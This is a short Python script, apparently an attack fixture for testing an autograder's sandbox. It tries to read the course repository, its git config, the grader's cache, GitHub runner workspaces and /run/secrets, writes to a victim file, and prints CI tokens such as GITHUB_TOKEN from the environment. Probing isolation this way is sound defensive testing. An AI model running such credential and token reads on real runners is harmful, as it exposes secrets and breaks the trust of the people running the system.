"""Reads the course's repository, the grader's caches and the tokens that a workflow leaves on disk."""
# attack: week=03 exercise=pyramid
import os

for path in ("@COURSE@", "@COURSE@/.git/config", "@COURSE@/.grader", "/home/runner/work", "/github/workspace", "/run/secrets"):
    try:
        found = len(os.listdir(path) if os.path.isdir(path) else open(path).read())
        print("SURPRISE", path, found)
        open("@VICTIM@", "a").write("read")
    except OSError as error:
        print("refused", error)
for name in ("@TOKEN@", "GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "GITHUB_ENV", "GITHUB_OUTPUT"):
    print(name, os.environ.get(name))
